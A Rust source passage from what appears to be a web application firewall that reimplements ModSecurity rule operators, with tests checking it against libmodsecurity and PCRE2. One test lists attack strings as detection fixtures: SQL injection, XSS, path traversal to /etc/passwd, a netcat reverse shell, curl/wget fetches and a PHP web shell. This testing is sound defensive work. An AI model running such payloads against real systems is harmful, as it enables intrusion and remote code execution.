fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    memchr::memmem::find(haystack, needle)
}

/// `@validateByteRange`'s allowed bytes, and the others when they are at most three (1-255,
/// CRS's paranoia level 1 range, leaves NUL alone): then found with `memchr`, not byte by byte.
#[derive(Debug)]
pub struct ByteRange {
    allowed: [bool; 256],
    others: Option<Vec<u8>>,
}

impl ByteRange {
    fn new(allowed: [bool; 256]) -> ByteRange {
        let others: Vec<u8> = (0..=255u8).filter(|&b| !allowed[usize::from(b)]).collect();
        ByteRange {
            allowed,
            others: (others.len() <= 3).then_some(others),
        }
    }

    /// Whether `value` has a byte outside the range.
    fn breached(&self, value: &[u8]) -> bool {
        match self.others.as_deref() {
            Some([]) => false,
            Some(&[a]) => memchr::memchr(a, value).is_some(),
            Some(&[a, b]) => memchr::memchr2(a, b, value).is_some(),
            Some(&[a, b, c]) => memchr::memchr3(a, b, c, value).is_some(),
            _ => value.iter().any(|&b| !self.allowed[usize::from(b)]),
        }
    }
}

/// A substring searcher built once per argument (a search per call builds one per call).
pub type Finder = memchr::memmem::Finder<'static>;

/// `@within`'s argument and, sorted, every byte pair in it with its position: the values looked
/// up are short names (methods, header names, extensions) in a list of them, and a value's
/// first two bytes leave about one place to compare.
#[derive(Debug)]
pub struct Within {
    text: Vec<u8>,
    pairs: Vec<(u16, u32)>,
}

impl Within {
    fn new(text: Vec<u8>) -> Within {
        let mut pairs: Vec<(u16, u32)> = text
            .windows(2)
            .enumerate()
            .map(|(at, w)| (u16::from_be_bytes([w[0], w[1]]), at as u32))
            .collect();
        pairs.sort_unstable();
        Within { text, pairs }
    }

    /// Whether `value` occurs in the text (an empty value always does).
    fn holds(&self, value: &[u8]) -> bool {
        match value {
            [] => true,
            [b] => memchr::memchr(*b, &self.text).is_some(),
            [a, b, ..] => {
                let key = u16::from_be_bytes([*a, *b]);
                let from = self.pairs.partition_point(|&(k, _)| k < key);
                self.pairs
                    .get(from..)
                    .unwrap_or(&[])
                    .iter()
                    .take_while(|&&(k, _)| k == key)
                    .any(|&(_, at)| {
                        self.text
                            .get(at as usize..)
                            .is_some_and(|t| t.starts_with(value))
                    })
            }
        }
    }
}

fn until_nul(s: &[u8]) -> &[u8] {
    match memchr::memchr(0, s) {
        Some(p) => &s[..p],
        None => s,
    }
}

/// C `isspace` in the "C" locale.
fn is_c_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | 0x0B | 0x0C | b'\r')
}

/// `strtoll` on the C string: leading spaces, sign, digits. `None` without digits; the value is
/// clamped to the i64 range like glibc does on overflow. One pass, stopping at the first byte
/// that is not part of the number (a NUL ends the C string there too).
fn strtoll(s: &[u8]) -> Option<(i64, bool)> {
    let mut i = 0;
    while s.get(i).is_some_and(|&b| is_c_space(b)) {
        i += 1;
    }
    let neg = match s.get(i) {
        Some(b'-') => {
            i += 1;
            true
        }
        Some(b'+') => {
            i += 1;
            false
        }
        _ => false,
    };
    // accumulated as a negative number, whose range reaches i64::MIN
    let start = i;
    let mut v: i64 = 0;
    let mut overflow = false;
    while let Some(&b) = s.get(i)
        && b.is_ascii_digit()
    {
        match v
            .checked_mul(10)
            .and_then(|x| x.checked_sub(i64::from(b - b'0')))
        {
            Some(x) => v = x,
            None => {
                overflow = true;
                v = i64::MIN;
            }
        }
        i += 1;
    }
    if i == start {
        return None;
    }
    if neg {
        return Some((v, overflow));
    }
    Some(match v.checked_neg() {
        Some(p) => (p, overflow),
        None => (i64::MAX, true),
    })
}

/// `atoll`: 0 without digits, clamped on overflow.
fn atoll(s: &[u8]) -> i64 {
    strtoll(s).map_or(0, |(v, _)| v)
}

/// `std::stoi` inside `try { } catch (...) { 0 }`.
fn stoi(s: &[u8]) -> i64 {
    stoi_checked(s).unwrap_or(0)
}

fn stoi_checked(s: &[u8]) -> Option<i64> {
    match strtoll(s)? {
        (v, false) if i32::try_from(v).is_ok() => Some(v),
        _ => None,
    }
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;

    /// `@validateByteRange` finds a byte outside its range as a byte-by-byte check does, for
    /// ranges leaving out none, one, two, three and many bytes.
    #[test]
    fn byte_ranges_find_the_bytes_outside_them() {
        let mut x: u64 = 0x0bad_cafe_f00d_1234;
        for arg in [
            "0-255",
            "1-255",
            "1-254",
            "2-254",
            "9,10,13,32-126,128-255",
            "32-126",
        ] {
            let allowed = byte_ranges(arg.as_bytes());
            let range = ByteRange::new(allowed);
            for _ in 0..2_000 {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                let value: Vec<u8> = (0..x % 40)
                    .map(|i| {
                        let r = x.rotate_left(i as u32 * 7);
                        // mostly printable, now and then an edge byte
                        if r.is_multiple_of(9) {
                            [0u8, 1, 254, 255, 9][(r >> 8) as usize % 5]
                        } else {
                            b'a' + (r >> 16) as u8 % 26
                        }
                    })
                    .collect();
                let naive = value.iter().any(|&b| !allowed[usize::from(b)]);
                assert_eq!(range.breached(&value), naive, "{arg} on {value:?}");
            }
        }
    }

    /// `@within`'s pair index answers as a plain substring search, and `@contains`'s
    /// prebuilt searcher as `memmem::find`.
    #[test]
    fn within_and_contains_answer_as_a_substring_search() {
        let text = b"/proxy/ /lock-token/ /content-range/ /if/ /x/ GET HEAD POST".to_vec();
        let within =
            Operator::compile("within", &String::from_utf8_lossy(&text), Path::new(".")).unwrap();
        let alphabet = b"/ -proxyif GETx";
        let mut x: u64 = 0x1234_5678_9abc_def1;
        for _ in 0..20_000 {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            let value: Vec<u8> = if x.is_multiple_of(3) {
                // a piece of the text itself
                let from = (x >> 8) as usize % text.len();
                let len = (x >> 20) as usize % 12;
                text[from..(from + len).min(text.len())].to_vec()
            } else {
                (0..(x >> 8) % 8)
                    .map(|i| alphabet[((x >> (3 * i + 11)) as usize) % alphabet.len()])
                    .collect()
            };
            let naive =
                value.is_empty() || text.windows(value.len()).any(|w| w == value.as_slice());
            assert_eq!(
                within.is_match(&value),
                naive,
                "{:?}",
                String::from_utf8_lossy(&value)
            );
            let contains =
                Operator::compile("contains", &String::from_utf8_lossy(&value), Path::new("."))
                    .unwrap();
            assert_eq!(
                contains.is_match(&text),
                memchr::memmem::find(&text, &value).is_some()
            );
        }
        assert!(within.is_match(b"POST") && !within.is_match(b"POSTX") && within.is_match(b""));
    }

    fn op(name: &str, arg: &str) -> Operator {
        Operator::compile(name, arg, Path::new("/usr/share/modsecurity-crs/rules")).unwrap()
    }

    fn hit(name: &str, arg: &str, value: &[u8]) -> bool {
        let o = op(name, arg);
        let r = o.evaluate(value);
        assert_eq!(r.is_some(), o.is_match(value), "{name} {arg} {value:?}");
        r.is_some()
    }

    #[test]
    fn strtoll_agrees_with_glibc() {
        let cases: &[&[u8]] = &[
            b"0",
            b"42",
            b"  \t\n\x0b\x0c\r-17abc",
            b"+5",
            b"-",
            b"+",
            b"",
            b" ",
            b"abc",
            b"12\x0034",
            b"\x0012",
            b"007",
            b"- 3",
            b"9223372036854775807",
            b"9223372036854775808",
            b"-9223372036854775808",
            b"-9223372036854775809",
            b"99999999999999999999999999",
            b"-99999999999999999999999999x",
            b"2147483647",
            b"2147483648",
            b"-2147483649",
            b"1e5",
            b"0x10",
        ];
        for &s in cases {
            let until = s.iter().position(|&b| b == 0).unwrap_or(s.len());
            let c = std::ffi::CString::new(&s[..until]).unwrap();
            let mut end: *mut libc::c_char = std::ptr::null_mut();
            // SAFETY: `c` is a NUL-terminated string that outlives the call; `end` is written
            // by strtoll to a pointer into it
            let (v, consumed) = unsafe {
                *libc::__errno_location() = 0;
                let v = libc::strtoll(c.as_ptr(), &mut end, 10);
                (v, end.offset_from(c.as_ptr()))
            };
            // SAFETY: reading this thread's errno
            let erange = unsafe { *libc::__errno_location() } == libc::ERANGE;
            let want = (consumed > 0).then_some((v, erange));
            assert_eq!(strtoll(s), want, "{:?}", String::from_utf8_lossy(s));
            assert_eq!(atoll(s), v, "{:?}", String::from_utf8_lossy(s));
        }
    }

    fn tx0(name: &str, arg: &str, value: &[u8]) -> Option<Vec<u8>> {
        op(name, arg)
            .evaluate(value)
            .and_then(|c| c.into_iter().next().flatten())
            .map(|c| c.to_vec())
    }

    // Every case below was run through libmodsecurity 3.0.9 with bench/modsec/reference/operator/harness.c (value in
    // REQUEST_HEADERS:X-T, rule with `capture`, TX.0 printed through msg).
    #[test]
    fn numbers_like_libmodsecurity() {
        assert!(hit("lt", "1", b"abc"));
        assert!(!hit("lt", "1", b" 3"));
        assert!(hit("lt", "1", b"-3"));
        assert!(hit("lt", "1", b""));
        assert!(!hit("lt", "0", b"9223372036854775808"));
        assert!(hit("ge", "0", b""));
        assert!(hit("le", "0", b"abc"));
        assert!(hit("gt", "2", b"3abc"));
        assert!(hit("eq", "0", b""));
        assert!(hit("eq", "5", b"5abc"));
        assert!(hit("eq", "5", b" 5"));
        assert!(hit("eq", "5", b"+5"));
        assert!(hit("eq", "1", b"1.9"));
        assert!(hit("eq", "0", b"99999999999"));
        assert!(hit("eq", "0", b"4294967296"));
        assert!(hit("EQ", "1", b"1"));
    }

    #[test]
    fn strings_like_libmodsecurity() {
        assert!(!hit("streq", "abc", b"ABC"));
        assert!(hit("streq", "abc", b"abc"));
        assert!(hit("beginsWith", "ab", b"abc"));
        assert!(hit("endsWith", "bc", b"abc"));
        assert!(hit("contains", "b", b"abc"));
        assert!(hit("strmatch", "b", b"abc"));
        assert!(hit("within", "GET POST", b"ET P"));
        assert!(hit("within", "GET", b""));
        assert!(hit("within", "xabcx", b"abc"));
        assert!(!hit("within", "abc", b"\0zz"));
        assert!(hit("contains", "a", b"b\0a"));
        assert!(hit("eq", "3", b"3\x004"));
        assert!(hit("lt", "10", b"\x009"));
        assert!(hit("containsWord", "foo", b"foo-bar"));
        assert!(hit("containsWord", "foo", b"food foo"));
        assert!(!hit("containsWord", "foo", b"food"));
        assert!(!hit("containsWord", "foo", b"xfoo"));
        assert!(hit("containsWord", "foo", b"foo"));
        assert!(hit("containsWord", "b", b"a b c"));
        // These operators store nothing under `capture`.
        assert_eq!(op("contains", "b").evaluate(b"abc"), Some(vec![]));
    }

    #[test]
    fn validators_like_libmodsecurity() {
        assert!(hit("validateUrlEncoding", "", b"ab%2"));
        assert!(hit("validateUrlEncoding", "", b"ab%zz"));
        assert!(!hit("validateUrlEncoding", "", b"ab%20"));
        assert!(!hit("validateUtf8Encoding", "", "é".as_bytes()));
        assert!(hit("validateUtf8Encoding", "", b"\xc0\xaf"));
        assert!(hit("validateUtf8Encoding", "", b"\xed\xa0\x80"));
        assert!(!hit("validateUtf8Encoding", "", b"\xf4\x90\x80\x80"));
        assert!(hit("validateUtf8Encoding", "", b"\xe0\x80"));
        assert!(hit("validateByteRange", "32-126", b"ab\n"));
        assert!(!hit("validateByteRange", "10, 32-126", b"ab\n"));
        assert!(hit("validateByteRange", "1-255", b"\0"));
        assert!(!hit("validateByteRange", "1-255", b"abc"));
        assert!(hit("validateByteRange", "1-2", b"abc"));
        assert!(hit("unconditionalMatch", "", b"x"));
        assert!(!hit("noMatch", "", b"x"));
    }

    #[test]
    fn ip_match_like_libmodsecurity() {
        assert!(hit("ipMatch", "10.0.0.0/8", b"10.1.2.3"));
        assert!(hit("ipMatch", "10.0.0.0/8,1.2.3.4", b"1.2.3.4"));
        assert!(hit("ipMatch", "::1", b"::1"));
        assert!(hit("ipMatch", "2001:db8::/32", b"2001:db8::1"));
        assert!(hit("ipMatch", "10.1.2.3/8", b"10.9.9.9"));
        assert!(!hit("ipMatch", "10.0.0.0/8", b"10.1.2.3x"));
        assert!(!hit("ipMatch", "10.0.0.0/8", b" 10.1.2.3"));
        assert!(!hit("ipMatch", "1.2.3.4", b"1.2.3.4/32"));
        assert!(!hit("ipMatch", "10.0.0.0/8", b"::ffff:10.0.0.1"));
        // libmodsecurity refuses these rules.
        let dir = Path::new("/");
        assert!(Operator::compile("ipMatch", "10.0.0.0/8, 1.2.3.4", dir).is_err());
        assert!(Operator::compile("ipMatch", "10.0.0.0/8 1.2.3.4", dir).is_err());
        assert!(Operator::compile("ipMatch", "10.0.0.0/33", dir).is_err());
        assert!(Operator::compile("ipMatch", "0.0.0.0/0", dir).is_err());
        assert!(Operator::compile("ipMatch", "2001:db8::1/128", dir).is_err());
        assert!(hit("ipMatch", "2001:db8::1/127", b"2001:db8::1"));
        assert!(hit("ipMatch", "10.0.0.0/8,", b"10.0.0.1"));
        assert!(hit("ipMatch", ",10.0.0.1", b"10.0.0.1"));
        assert!(hit("ipMatch", "10.0.0.1/31", b"10.0.0.0"));
    }

    #[test]
    fn pm_like_libmodsecurity() {
        assert_eq!(tx0("pm", "BAR", b"xbary"), Some(b"BAR".to_vec()));
        assert_eq!(tx0("pm", "foo bar", b"xBARy"), Some(b"bar".to_vec()));
        assert_eq!(tx0("pm", "a", b"a"), Some(b"a".to_vec()));
        assert_eq!(
            tx0("pm", "é", "é".as_bytes()),
            Some("é".as_bytes().to_vec())
        );
        // TX:0 is the trie node's text, not the phrase that ended there.
        assert_eq!(tx0("pm", "abc ab", b"abc"), Some(b"ab".to_vec()));
        assert_eq!(tx0("pm", "abc b", b"abc"), Some(b"ab".to_vec()));
        assert_eq!(tx0("pm", "bc abcd", b"abcd"), Some(b"abc".to_vec()));
        // One-level fail links: "cd" is missed.
        assert!(!hit("pm", "abce bx cd", b"abcd"));
        assert!(hit("pm", "abce bx cd", b"xcd"));
        // `|41|`: digits are not hex digits for parse_pm_content, and the argument keeps its
        // length, so these phrases stay as written.
        assert!(!hit("pm", "a|41|b", b"aAb"));
        assert!(!hit("pm", "|41|", b"zA"));
        assert!(!hit("pm", "a|41 42|c", b"zaABc"));
        assert!(!hit("pm", "a|41|", b"zaA"));
        assert!(!hit("pm", "a\\|b c", b"a|b"));
        assert_eq!(tx0("pm", "|ab|", b"z\xabab|"), Some(b"\xabab|".to_vec()));
        assert!(!hit("pm", "|ab|", b"z\xab"));
    }

    #[test]
    fn pm_content_parsing() {
        assert_eq!(pm_phrases(b"a|41|"), vec![b"a|41|".to_vec()]);
        assert_eq!(pm_phrases(b"|ab|"), vec![b"\xabab|".to_vec()]);
        // Surrounding quotes are dropped (libmodsecurity's rule parser cannot pass them inline,
        // so this one is from the source only).
        assert_eq!(
            pm_phrases(b"\"foo bar\""),
            vec![b"foo".to_vec(), b"bar".to_vec()]
        );
        assert_eq!(pm_phrases(b"a\\:b"), vec![b"a:bb".to_vec()]);
        assert_eq!(pm_phrases(b"a\\xb"), vec![b"a\\xb".to_vec()]);
    }

    #[test]
    fn pm_from_file_like_libmodsecurity() {
        let dir = std::env::temp_dir().join(format!("crs-op-test-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("pm1.data"), "# c\n  # c2\n\nfoo \nBar\n x#y\n").unwrap();
        let pm = Operator::compile("pmFromFile", "pm1.data", &dir).unwrap();
        let t = |v: &[u8]| pm.evaluate(v).map(|c| c[0].as_deref().unwrap().to_vec());
        assert_eq!(t(b"foo"), None);
        assert_eq!(t(b"foo bar"), Some(b"foo ".to_vec()));
        assert_eq!(t(b"BAR"), Some(b"Bar".to_vec()));
        assert_eq!(t(b" x#y"), Some(b" x#y".to_vec()));
        assert_eq!(t(b"# c"), None);
        assert_eq!(tx0("PM", "a", b"A"), Some(b"a".to_vec()));
        std::fs::write(dir.join("ip2.data"), "10.0.0.0/8\n# comment\n\n").unwrap();
        assert!(
            Operator::compile("ipMatchF", "ip2.data", &dir)
                .unwrap()
                .is_match(b"10.2.3.4")
        );
        std::fs::write(dir.join("ip1.data"), " 1.2.3.4\n").unwrap();
        assert!(Operator::compile("ipMatchFromFile", "ip1.data", &dir).is_err());
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn rx_like_libmodsecurity() {
        let caps = op("rx", "a(b)?(c)").evaluate(b"ac").unwrap();
        let caps: Vec<Option<&[u8]>> = caps.iter().map(Option::as_deref).collect();
        assert_eq!(caps, vec![Some(&b"ac"[..]), None, Some(&b"c"[..])]);
        assert_eq!(tx0("rx", "^a$", b"b\na\nb"), Some(b"a".to_vec()));
        assert_eq!(tx0("rx", "a.b", b"a\nb"), Some(b"a\nb".to_vec()));
        assert_eq!(tx0("RX", "a", b"a"), Some(b"a".to_vec()));
        // PCRE2 10.42 reads `{,2}` literally.
        assert!(!hit("rx", "a{,2}b", b"ab"));
        assert!(hit("rx", "a{,2}b", b"a{,2}b"));
        // PCRE's multiline `^` does not match after a final newline.
        assert!(!hit("rx", "^\\s*$", b"abc\n"));
        // A pattern PCRE2 rejects loads but never matches.
        let bad = op("rx", "a(");
        assert!(!bad.is_match(b"a("));
        assert!(bad.unsupported_reason().is_some());
        // SecPcreMatchLimit is ignored by 3.0.9: this needs far more than 1000 steps.
        let long = format!("{}c", "ab".repeat(5000));
        assert!(hit("rx", "^(?:a|b)*c", long.as_bytes()));
        // `\x{bc}` is the byte 0xBC, as `\xbc` is (CRS 4's 941310 writes the braced form);
        // these verdicts are libmodsecurity 3.0.9's, from bench/modsec/reference/operator's
        // harness
        for (pattern, value, want) in [
            ("\\x{bc}\\z", &b"a\xbc"[..], true),
            ("\\x{bc}\\z", b"a\xc2\xbc", true),
            ("\\x{bc}\\z", b"a\xc2", false),
            ("\\x{00bc}", b"a\xbc", true),
            ("[\\x{bc}]", b"a\xbc", true),
            ("\\x{41}b", b"Ab", true),
            ("\\x{100}", b"a", false),
        ] {
            assert_eq!(hit("rx", pattern, value), want, "{pattern} on {value:?}");
        }
    }

    #[test]
    fn rx_engine_choice() {
        assert!(op("rx", "(?i)foo\\s+bar[a-z]{2,3}").pcre_reason().is_none());
        for p in [
            "a\\Z", "(?=a)", "\\1(a)", "[a[b]c]", "a{,3}", "\\v", "[a&&b]", "\\<a", "^a*",
            "\\x{bc}",
        ] {
            assert!(op("rx", p).pcre_reason().is_some(), "{p}");
        }
    }

    #[test]
    fn unknown_and_unsupported() {
        let dir = Path::new("/");
        assert!(matches!(
            Operator::compile("foo", "a", dir),
            Err(OperatorError::Unknown(_))
        ));
        let rbl = Operator::compile("rbl", "x.example", dir).unwrap();
        assert!(rbl.unsupported_reason().is_some());
        assert!(!rbl.is_match(b"1.2.3.4"));
    }

    /// Operator strings of the SecRules in a CRS file: `(negated, name, argument)`.
    pub(in crate::detect::crs) fn crs_operators(text: &str) -> Vec<(String, String)> {
        let joined = text.replace("\\\n", "");
        let mut out = Vec::new();
        for line in joined.lines() {
            let line = line.trim_start();
            if !line.starts_with("SecRule ") {
                continue;
            }
            // The second double-quoted token is the operator.
            let b = line.as_bytes();
            let mut i = 0;
            let mut tokens = Vec::new();
            while i < b.len() && tokens.len() < 2 {
                if b[i] == b'"' {
                    let mut s = Vec::new();
                    i += 1;
                    while i < b.len() && b[i] != b'"' {
                        if b[i] == b'\\' && b.get(i + 1) == Some(&b'"') {
                            i += 1;
                        }
                        s.push(b[i]);
                        i += 1;
                    }
                    tokens.push(String::from_utf8(s).unwrap());
                } else if tokens.is_empty() && b[i] == b' ' {
                    // unquoted variables: skip to the operator
                }
                i += 1;
            }
            let Some(op) = tokens
                .iter()
                .find(|t| t.starts_with('@') || t.starts_with("!@"))
            else {
                continue;
            };
            let op = op.trim_start_matches('!').trim_start_matches('@');
            let (name, arg) = op.split_once(' ').unwrap_or((op, ""));
            out.push((name.to_string(), arg.to_string()));
        }
        out
    }

    /// Every operator of Debian's CRS 3.3.4 compiles; prints the @rx engine split
    /// (`cargo test crs_rules -- --nocapture`).
    #[test]
    fn crs_rules_compile() {
        let dir = Path::new("/usr/share/modsecurity-crs/rules");
        if super::super::without_debian_crs("crs_rules_compile") {
            return;
        }
        let Ok(entries) = std::fs::read_dir(dir) else {
            panic!("{}: unreadable", dir.display());
        };
        let (mut rust, mut pcre, mut total) = (0, 0, 0);
        let mut reasons = std::collections::BTreeMap::<String, usize>::new();
        for entry in entries {
            let path = entry.unwrap().path();
            if path.extension().is_none_or(|e| e != "conf") {
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap();
            for (name, arg) in crs_operators(&text) {
                if name == "detectSQLi" || name == "detectXSS" || arg.contains("%{") {
                    continue;
                }
                total += 1;
                let o = Operator::compile(&name, &arg, dir)
                    .unwrap_or_else(|e| panic!("{}: @{name} {arg}: {e}", path.display()));
                if name == "rx" {
                    assert!(o.unsupported_reason().is_none(), "{arg}");
                    match o.pcre_reason() {
                        Some(why) => {
                            pcre += 1;
                            *reasons.entry(why.to_string()).or_default() += 1;
                        }
                        None => rust += 1,
                    }
                }
            }
        }
        println!("operators: {total}, @rx on the Rust engine: {rust}, on PCRE2: {pcre}");
        for (why, n) in &reasons {
            println!("  {n:4}  {why}");
        }
        assert!(total > 300 && rust > 0);
    }

    #[test]
    fn crs_data_files() {
        if super::super::without_debian_crs("crs_data_files") {
            return;
        }
        let ua = op("pmFromFile", "scanners-user-agents.data");
        assert!(ua.is_match(b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"));
        assert!(!ua.is_match(b"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"));
        // Checked with bench/modsec/reference/operator/harness.c: TX:0 is "etc/passwd".
        let pmf = op("pmf", "lfi-os-files.data");
        assert_eq!(
            pmf.evaluate(b"/etc/passwd"),
            Some(vec![Some(Arc::from(&b"etc/passwd"[..]))])
        );
        let lfi = op("pmFromFile", "lfi-os-files.data");
        assert!(lfi.is_match(b"/etc/passwd"));
        assert!(!lfi.is_match(b"/index.html"));
    }

    /// The Rust engine agrees with PCRE2 (the system libpcre2 libmodsecurity links, same
    /// flags) on whether every CRS @rx it takes matches, over attack-like subjects (the groups
    /// of a match come from PCRE2 itself).
    #[test]
    fn crs_rust_engine_agrees_with_pcre2() {
        let dir = Path::new("/usr/share/modsecurity-crs/rules");
        if super::super::without_debian_crs("crs_rust_engine_agrees_with_pcre2") {
            return;
        }
        let Ok(entries) = std::fs::read_dir(dir) else {
            panic!("{}: unreadable", dir.display());
        };
        let mut patterns = Vec::new();
        for entry in entries {
            let path = entry.unwrap().path();
            if path.extension().is_some_and(|e| e == "conf") {
                let text = std::fs::read_to_string(&path).unwrap();
                patterns.extend(
                    crs_operators(&text)
                        .into_iter()
                        .filter(|(n, _)| n == "rx")
                        .map(|(_, a)| a),
                );
            }
        }
        let mut subjects: Vec<Vec<u8>> = [
            "1' or '1'='1",
            "admin'--",
            "1 union select 1,2,3 from users",
            "sleep(5)#",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/shadow\x00.png",
            ";cat /etc/passwd",
            "| nc -e /bin/sh 1.2.3.4 4444",
            "$(curl http://x)",
            "`id`",
            "<?php system($_GET[1]); ?>",
            "php://filter/convert.base64-encode/resource=index",
            "java.lang.Runtime.getRuntime()",
            "${jndi:ldap://x/a}",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            "sqlmap/1.5",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=abc",
            "bytes=0-1,2-3",
            "GET",
            "HTTP/1.1",
            "text/html; charset=utf-8",
            "gzip, deflate",
            "",
            " ",
            "\n",
            "a\nb\n",
            "\r\n\r\n",
            "%00",
            "%u0041",
            "&#x3c;",
            "\\x3c",
            "0x41414141",
            "a=b&c=d",
            "x\n$",
            "SELECT * FROM t WHERE a=1 AND b LIKE '%x%'",
            "/*!50000union*/",
            "char(0x41)",
            "@@version",
            "eval(base64_decode('x'))",
            "__proto__[x]=1",
            "constructor.prototype",
            "require('child_process')",
            "{{7*7}}",
            "<!--#exec cmd=\"ls\"-->",
            "\x7f\u{80}\u{ff}",
            "ŝ",
            "Content-Type: text/xml",
            "http://1.2.3.4/x?y=http://evil",
            "file:///etc/passwd",
            "wget http://x/y.sh",
            "/bin/bash -c id",
            "' having 1=1--",
            "\" onmouseover=\"x",
            "<svg/onload=alert(1)>",
            "set-cookie: a=b",
        ]
        .iter()
        .map(|s| s.as_bytes().to_vec())
        .collect();
        for p in &patterns {
            subjects.push(p.as_bytes().to_vec());
            subjects.push(p.to_ascii_uppercase().into_bytes());
            subjects.push(format!("x\n{p}\n").into_bytes());
        }
        let extra: Vec<Vec<u8>> = subjects
            .iter()
            .flat_map(|s| {
                [
                    [b"\n".as_slice(), s].concat(),
                    [s.as_slice(), b"\n"].concat(),
                ]
            })
            .collect();
        subjects.extend(extra);
        let (mut compared, mut hits, mut whole, mut lazy) = (0, 0, 0, 0);
        for p in &patterns {
            let Operator::Rx(rx) = op("rx", p) else {
                continue;
            };
            let RxEngine::Rust { re, dense, .. } = &rx.engine else {
                continue;
            };
            match dense {
                Some(_) => whole += 1,
                None => lazy += 1,
            }
            let pcre = pcre2::bytes::RegexBuilder::new()
                .dotall(true)
                .multi_line(true)
                .jit_if_available(true)
                .build(p)
                .unwrap();
            let pcre_rx = Rx {
                pattern: p.clone(),
                engine: RxEngine::Pcre {
                    re: Pcre::new(pcre),
                    why: String::new(),
                },
            };
            for s in &subjects {
                // the Rust engine decides whether a pattern matches; the groups of a match
                // come from PCRE2 (see `RxEngine::Rust`)
                let got = rx.is_match(s);
                assert_eq!(
                    got,
                    pcre_rx.is_match(s),
                    "{p:?} on {:?}",
                    s.escape_ascii().to_string()
                );
                assert_eq!(rx.captures(s), pcre_rx.captures(s));
                // the whole DFA, where built, answers as the lazy one
                assert_eq!(got, re.is_match(s), "{p:?} (whole DFA) on {s:?}");
                compared += 1;
                hits += usize::from(got);
            }
        }
        println!("{compared} comparisons, {hits} matches; {whole} whole DFAs, {lazy} lazy");
        assert!(hits > 1000);
        // most patterns fit the whole DFA's limit; the largest stay lazy (both kinds are checked)
        assert!(whole > 150 && lazy > 0, "{whole} whole DFAs, {lazy} lazy");
    }

    /// The whole DFA reads a pattern as the lazy DFA does where they could differ: line
    /// anchors at a newline that ends the value, ASCII word boundaries next to bytes above
    /// 0x7f, `.` and classes over newlines and NUL, case folding of ASCII only.
    #[test]
    fn whole_dfa_answers_as_the_lazy_one() {
        let patterns = [
            "^a$",
            "(?m)^b",
            "c$",
            "\\bword\\b",
            "\\Bx",
            "(?i)select.+from",
            "a.b",
            "[^a]z",
            "\\x00y",
            "(?i)\\xe9",
            "\\s+on\\w+\\s*=",
            "(?:^|;)\\s*id\\b",
        ];
        let subjects: [&[u8]; 16] = [
            b"a",
            b"a\n",
            b"\na\n",
            b"x\nb",
            b"word",
            b"a word.",
            b"\xe9word\xe9",
            b"xx",
            b"SeLeCt 1\nFROM t",
            b"a\nb",
            b"\nz",
            b"\x00y",
            b"\xc9",
            b"",
            b"\n",
            b"; id",
        ];
        for p in patterns {
            let re = rust_equivalent(p).unwrap();
            let dense = dense_dfa(p).unwrap();
            for s in subjects {
                assert_eq!(
                    rust_is_match(&re, Some(&dense), s),
                    re.is_match(s),
                    "{p:?} on {s:?}"
                );
            }
        }
        // past the limit no whole DFA is built, and the lazy DFA answers: words whose letters
        // may each be followed by quotes, as CRS writes its command lists
        let words: Vec<String> = (0..200)
            .map(|i| {
                let w = format!("cmd{}z{}", i * 37 % 1000, i);
                w.chars().map(|c| format!("{c}[\"^]*")).collect()
            })
            .collect();
        let big = format!("(?i)(?:;|\\|)\\s*(?:{})\\b", words.join("|"));
        assert!(
            dense_dfa(&big).is_none(),
            "a whole DFA past {DENSE_LIMIT} bytes"
        );
        let re = rust_equivalent(&big).unwrap();
        assert!(rust_is_match(&re, None, b"x; C\"M^D37z1 y"));
        assert!(!rust_is_match(&re, None, b"x; cmd37z2y"));
    }

    /// `tests/data/crs/pm_cases.tsv` (file, value, libmodsecurity's verdict and TX:0) was produced by
    /// bench/modsec/reference/operator/harness.c with @pmFromFile on each CRS .data file: the ACMP port agrees on all of it.
    #[test]
    fn pm_from_file_agrees_with_libmodsecurity() {
        if super::super::without_debian_crs("pm_from_file_agrees_with_libmodsecurity") {
            return;
        }
        let cases = std::fs::read(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/data/crs/pm_cases.tsv"
        ))
        .unwrap();
        let mut ops = std::collections::HashMap::new();
        let mut n = 0;
        for line in cases.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
            let f: Vec<&[u8]> = line.splitn(3, |&b| b == b'\t').collect();
            let file = std::str::from_utf8(f[0]).unwrap();
            let o = ops
                .entry(file.to_string())
                .or_insert_with(|| op("pmFromFile", file));
            let got = o.evaluate(f[1]).map(|c| c[0].as_deref().unwrap().to_vec());
            match f[2].strip_prefix(b"MATCH ") {
                None => assert_eq!(got, None, "{file} {:?}", f[1].escape_ascii().to_string()),
                Some(msg) => {
                    let got = got
                        .unwrap_or_else(|| panic!("{file} {:?}", f[1].escape_ascii().to_string()));
                    let want = msg.strip_suffix(b"||").unwrap();
                    if !want.contains(&b'\\') {
                        assert_eq!(got, want, "{file} {:?}", f[1].escape_ascii().to_string());
                    }
                }
            }
            n += 1;
        }
        assert!(n > 1000);
    }

    /// `\xHH` escapes of the harness input.
    fn unescape_hex(s: &str) -> Vec<u8> {
        let b = s.as_bytes();
        let mut out = Vec::new();
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'\\' && b.get(i + 1) == Some(&b'x') && i + 3 < b.len() {
                out.push(u8::from_str_radix(&s[i + 2..i + 4], 16).unwrap());
                i += 4;
            } else {
                out.push(b[i]);
                i += 1;
            }
        }
        out
    }

    /// `tests/data/crs/rx_cases.tsv`: every CRS 3.3.4 @rx (as written in the rule, `\"` escaped) on attack
    /// subjects, with libmodsecurity's verdict and TX:0 from bench/modsec/reference/operator/harness.c. Both engines agree.
    #[test]
    fn crs_rx_agrees_with_libmodsecurity() {
        let cases = std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
